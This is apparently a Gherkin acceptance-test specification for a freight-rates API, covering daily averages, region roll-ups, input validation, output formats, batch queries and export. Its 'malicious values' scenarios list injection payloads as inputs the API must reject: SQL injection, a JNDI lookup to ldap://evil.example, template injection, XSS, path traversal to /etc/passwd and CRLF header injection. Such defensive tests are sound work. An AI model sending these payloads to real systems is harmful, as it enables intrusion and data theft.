Feature: Freight rates
  Daily average prices between two ports or regions. Days with too few prices have no average, and the length of a
  period is limited.

  Rule: The original API contract is preserved

    @B1
    Scenario: One entry per day, newest first, with exact averages
      When I request the rates from CNGGZ to EETLL between 2021-01-01 and 2021-01-31
      Then the response status is 200 with media type "application/json"
      And there is one entry per day, 31 in total, newest first, from 2021-01-31 back to 2021-01-01
      And the response contains these entries verbatim
        | entry                                                     |
        | {"count":3,"day":"2021-01-31","price":1819.0}             |
        | {"count":3,"day":"2021-01-30","price":1866.3333333333333} |
        | {"count":4,"day":"2021-01-28","price":1858.75}            |
        | {"count":3,"day":"2021-01-01","price":1890.0}             |

    @B3
    Scenario: Days with fewer than three prices have no average
      When I request the rates from CNGGZ to EETLL between 2021-01-01 and 2021-01-31
      Then the response contains these entries verbatim
        | entry                                          |
        | {"count":2,"day":"2021-01-10","price":null}    |
        | {"count":1,"day":"2021-01-17","price":null}    |
        | {"count":null,"day":"2021-01-24","price":null} |

    @B1
    Scenario: A period of a single day
      When I request the rates from CNGGZ to EETLL between 2021-01-31 and 2021-01-31
      Then there is one entry per day, 1 in total, newest first, from 2021-01-31 back to 2021-01-31

    @B3
    Scenario: Days without data are listed without values
      When I request the rates from CNGGZ to EETLL between 1999-12-30 and 2000-01-02
      Then there is one entry per day, 4 in total, newest first, from 2000-01-02 back to 1999-12-30
      And no day has a price or a count

  Rule: The second API contract shares the path

    @B4
    Scenario: Rounded averages, oldest first
      When I request the rounded rates from CNGGZ to EETLL between 2021-01-01 and 2021-01-31
      Then the response status is 200 with media type "application/json"
      And there is one entry per day, 31 in total, oldest first, from 2021-01-01 to 2021-01-31
      And the response contains these entries verbatim
        | entry                                     |
        | {"day":"2021-01-30","average_price":1866} |
        | {"day":"2021-01-28","average_price":1859} |
        | {"day":"2021-01-10","average_price":null} |
        | {"day":"2021-01-24","average_price":null} |

    @B4 @B5
    Scenario Outline: Both contracts return the same averages from <from> to <to>
      When I request the rates from <from> to <to> between 2021-01-01 and 2021-01-31
      And I request the rounded rates from <from> to <to> between 2021-01-01 and 2021-01-31
      Then both responses contain the same averages, the second one rounded
      And at least one day has a price

      Examples:
        | from             | to              |
        | CNGGZ            | EETLL           |
        | china_south_main | EETLL           |
        | CNGGZ            | baltic          |
        | asia             | northern_europe |

  Rule: A region includes all ports below it, at any depth

    @B5
    Scenario Outline: The rates of <region> cover the prices of all its ports
      When I request the rates from <region> to EETLL between 2021-01-01 and 2021-01-14
      Then each day's count and average cover the prices of every port in <region> to EETLL

      Examples:
        | region           |
        | china_south_main |
        | china_main       |
        | asia             |

    @B6
    Scenario Outline: A place may be combined with itself or a region that contains it: <from> to <to>
      When I request the rates from <from> to <to> between 2021-01-01 and 2021-01-31
      Then the response status is 200 with media type "application/json"
      And there is one entry per day, 31 in total, newest first, from 2021-01-31 back to 2021-01-01

      Examples:
        | from            | to              |
        | CNGGZ           | CNGGZ           |
        | baltic          | baltic          |
        | baltic          | northern_europe |
        | northern_europe | baltic          |
        | CNGGZ           | asia            |

  Rule: An invalid request is rejected, and every invalid field is reported

    @B7 @O1 @owasp:API4:2023 @asvs:v5.0.0-2.2.1 @asvs:v5.0.0-2.2.3 @asvs:v5.0.0-15.3.7 @CWE-20
    Scenario Outline: An invalid request reports exactly its invalid fields: <what>
      When I get "/rates?<query>"
      Then the response is a problem with status 400
      And the problem reports exactly the fields "<fields>"

      Examples:
        | what                            | query                                                                                                  | fields                                      |
        | no parameters                   |                                                                                                        | date_from,date_to,orig_code,dest_code       |
        | a day that does not exist       | date_from=2021-02-29&date_to=2021-03-01&orig_code=CNGGZ&dest_code=EETLL                                | date_from                                   |
        | a day without leading zeros     | date_from=2021-1-1&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL                                  | date_from                                   |
        | a day with a time               | date_from=2021-01-01&date_to=2021-01-01T00:00&orig_code=CNGGZ&dest_code=EETLL                          | date_to                                     |
        | a day in the year 0             | date_from=0000-01-01&date_to=0000-01-02&orig_code=CNGGZ&dest_code=EETLL                                | date_from,date_to                           |
        | a day in Arabic-Indic digits    | date_from=%D9%A2%D9%A0%D9%A2%D9%A1-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL            | date_from                                   |
        | the last day before the first   | date_from=2021-01-31&date_to=2021-01-01&orig_code=CNGGZ&dest_code=EETLL                                | date_from                                   |
        | no first day                    | date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL                                                     | date_from                                   |
        | empty values                    | date_from=&date_to=&orig_code=&dest_code=                                                              | date_from,date_to,orig_code,dest_code       |
        | only one place                  | date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ                                                | dest_code                                   |
        | only one of the second contract | date_from=2021-01-01&date_to=2021-01-31&destination=EETLL                                              | origin                                      |
        | one place of each contract      | date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&destination=EETLL                              | orig_code,destination                       |
        | all places of both contracts    | date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL&origin=CNGGZ&destination=EETLL | orig_code,dest_code,origin,destination      |
        | a duplicate place               | date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&orig_code=CNSGH&dest_code=EETLL                | orig_code                                   |
        | a duplicate day, same value     | date_from=2021-01-01&date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL           | date_from                                   |
        | an unknown parameter            | date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL&limit=5                        | limit                                       |
        | a parameter in upper case       | DATE_FROM=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL                                | DATE_FROM,date_from                         |
        | a parameter with brackets       | date_from=2021-01-01&date_to=2021-01-31&orig_code[]=CNGGZ&dest_code=EETLL                              | orig_code[],orig_code                       |
        | several errors at once          | date_from=x&date_to=2021-13-01&orig_code=C%20N&dest_code=!&debug=1                                     | date_from,date_to,orig_code,dest_code,debug |

    @B8 @O1
    Scenario Outline: An unknown place is not found: <query>
      When I get "/rates?date_from=2021-01-01&date_to=2021-01-31&<query>"
      Then the response is a problem with status 404
      And the problem reports exactly the fields "<fields>"

      Examples:
        | query                              | fields              |
        | orig_code=XXXXX&dest_code=EETLL    | orig_code           |
        | orig_code=CNGGZ&dest_code=atlantis | dest_code           |
        | orig_code=XXXXX&dest_code=atlantis | orig_code,dest_code |
        | origin=atlantis&destination=EETLL  | origin              |
        | origin=CNGGZ&destination=XXXXX     | destination         |

    @B9 @owasp:API4:2023 @asvs:v5.0.0-15.2.2 @CWE-770
    # Its 3.6 million days would take seconds.
    Scenario: An excessive period is rejected at once
      When I request the rates from CNGGZ to EETLL between 0001-01-01 and 9999-12-31 20 times
      Then the response is a problem with status 400
      And the problem reports exactly the field "date_to"
      And the fastest response took less than 500 milliseconds

    @B9 @owasp:API4:2023 @CWE-770
    Scenario Outline: The longest period is one leap year: to <last>
      When I request the rates from CNGGZ to EETLL between 2020-01-01 and <last>
      Then the response status is <status>

      Examples:
        | last       | status |
        | 2020-12-31 | 200    |
        | 2021-01-01 | 400    |

  Rule: Malicious values are rejected

    @B10 @owasp:API8:2023 @asvs:v5.0.0-1.2.4 @asvs:v5.0.0-16.5.1 @CWE-89 @CWE-20 @CWE-209
    Scenario Outline: A malicious place is rejected: <value>
      When I get "/rates?date_from=2021-01-01&date_to=2021-01-31&orig_code=<value>&dest_code=EETLL"
      Then the response is a problem with a 4xx status

      Examples:
        | value                                         |
        | %00                                           |
        | CNGGZ%00                                      |
        | %ff                                           |
        | %c0%af                                        |
        | %ed%a0%80                                     |
        | %                                             |
        | %zz                                           |
        | '%20OR%201=1--                                |
        | CNGGZ'%3BDROP%20TABLE%20prices--              |
        | %24%7Bjndi:ldap://evil.example/a%7D           |
        | %7B%7B7*7%7D%7D                               |
        | <script>alert(1)</script>                     |
        | ../../etc/passwd                              |
        | %0d%0aSet-Cookie:%20a=b                       |
        | {A*10000}                                     |
        | {%F0%9F%9A%A2*500}                            |
        | %E2%80%AECNGGZ                                |
        | C%CC%8ANGGZ                                   |
        | %EF%BC%A3%EF%BC%AE%EF%BC%A7%EF%BC%A7%EF%BC%BA |
        | -1                                            |
        | NaN                                           |
        | NULL                                          |

    @B10 @asvs:v5.0.0-1.2.4 @asvs:v5.0.0-1.4.2 @CWE-190
    Scenario Outline: A malformed day is rejected: <value>
      When I get "/rates?date_from=<value>&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL"
      Then the response is a problem with status 400
      And the problem reports exactly the field "date_from"

      Examples:
        | value                |
        | %00                  |
        | %ff                  |
        | 2021-01-01%00        |
        | 2021-01-01'--        |
        | infinity             |
        | -infinity            |
        | now                  |
        | today                |
        | epoch                |
        | 9999999999-01-01     |
        | -2021-01-01          |
        | 2021-01-01%20BC      |
        | 99999999999999999999 |
        | {9*10000}            |

  Rule: The Accept header selects the format

    @B11 @asvs:v5.0.0-4.1.1
    Scenario Outline: Accept "<accept>" returns <media type>
      When I request the rates of January 2021 as "<accept>"
      Then the response status is 200 with media type "<media type>"
      And the header "Vary" contains "Accept"

      Examples:
        | accept                          | media type           |
        | application/json                | application/json     |
        | application/*                   | application/json     |
        | */*                             | application/json     |
        | text/csv                        | text/csv             |
        | application/x-ndjson            | application/x-ndjson |
        | text/html, text/csv;q=0.5       | text/csv             |
        | application/json;q=0, */*;q=0.1 | text/csv             |

    @B11 @asvs:v5.0.0-1.2.10 @CWE-1236
    Scenario: CSV has a header line and CR LF line endings
      When I request the rates of January 2021 as "text/csv"
      Then the response has the header line "day,price,count" and 31 more lines, each ending in "\r\n"
      And the response contains these entries verbatim
        | line                            |
        | 2021-01-30,1866.3333333333333,3 |
        | 2021-01-10,,2                   |
        | 2021-01-24,,                    |

    @B11
    Scenario: CSV has a path of its own, for clients that cannot choose a format
      When I get "/rates.csv?date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL"
      Then the response status is 200 with media type "text/csv"
      And the response has the header line "day,price,count" and 31 more lines, each ending in "\r\n"

    @B11
    Scenario: Each NDJSON line is a JSON object
      When I request the rates of January 2021 as "application/x-ndjson"
      Then each of the 31 lines of the response is a JSON object

    @B11 @O1
    Scenario Outline: Accept "<accept>" is not acceptable
      When I request the rates of January 2021 as "<accept>"
      Then the response is a problem with status 406

      Examples:
        | accept               |
        | text/html            |
        | application/xml      |
        | application/json;q=0 |
        | image/*              |

  Rule: Many lanes are answered in one call

    @B17
    Scenario: The answer has the lanes in the order of the request, each in its contract
      When I send POST to "/rates/query" with the body
        """
        {"date_from": "2021-01-30", "date_to": "2021-01-31", "lanes": [
          {"origin": "CNGGZ", "destination": "EETLL"},
          {"orig_code": "CNGGZ", "dest_code": "atlantis"},
          {"orig_code": "CNGGZ", "dest_code": "EETLL"}]}
        """
      Then the response status is 200 with media type "application/json"
      And the member "/lanes/0/rates/0/day" is "2021-01-30"
      And the member "/lanes/0/rates/1/average_price" is "1819"
      And the member "/lanes/1/error/type" is "urn:portcullis:problem:unknown-place"
      And the member "/lanes/1/error/fields/0" is "dest_code"
      And the member "/lanes/2/rates/0/day" is "2021-01-31"
      And the member "/lanes/2/rates/0/price" is "1819.0"

    @B17
    Scenario: NDJSON has a line per lane
      When I send POST to "/rates/query" with "Accept: application/x-ndjson" and the body
        """
        {"date_from": "2021-01-30", "date_to": "2021-01-31", "lanes": [
          {"origin": "CNGGZ", "destination": "EETLL"},
          {"origin": "EETLL", "destination": "CNGGZ"}]}
        """
      Then the response status is 200 with media type "application/x-ndjson"
      And each of the 2 lines of the response is a JSON object

    @B17 @O1 @asvs:v5.0.0-2.2.1 @CWE-20
    Scenario: An invalid field is named with the index of its lane
      When I send POST to "/rates/query" with the body
        """
        {"date_from": "2021-01-30", "date_to": "2021-01-31", "lanes": [
          {"origin": "CNGGZ", "destination": "EETLL"},
          {"orig_code": "C N", "dest_code": "EETLL"},
          {"origin": "CNGGZ"}]}
        """
      Then the response is a problem with status 400
      And the problem reports exactly the fields "lanes[1].orig_code,lanes[2].destination"

    @B17 @O1 @owasp:API4:2023
    Scenario: No lanes are no query
      When I send POST to "/rates/query" with the body
        """
        {"date_from": "2021-01-30", "date_to": "2021-01-31", "lanes": []}
        """
      Then the response is a problem with status 400
      And the problem reports exactly the field "lanes"

  Rule: All lanes can be exported

    @B18
    Scenario: The sums of one origin and destination as CSV
      When I get "/rates/export?date_from=2021-01-30&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL"
      Then the response status is 200 with media type "text/csv"
      And the response has the header line "orig_code,dest_code,day,price_sum,price_count,price" and 2 more lines, each ending in "\r\n"
      And the response contains these entries verbatim
        | line                                             |
        | CNGGZ,EETLL,2021-01-30,5599,3,1866.3333333333333 |
        | CNGGZ,EETLL,2021-01-31,5457,3,1819.0             |

    @B18 @O1
    Scenario: An export of an unknown place is not found
      When I get "/rates/export?date_from=2021-01-30&date_to=2021-01-31&origin=atlantis"
      Then the response is a problem with status 404
      And the problem reports exactly the field "origin"
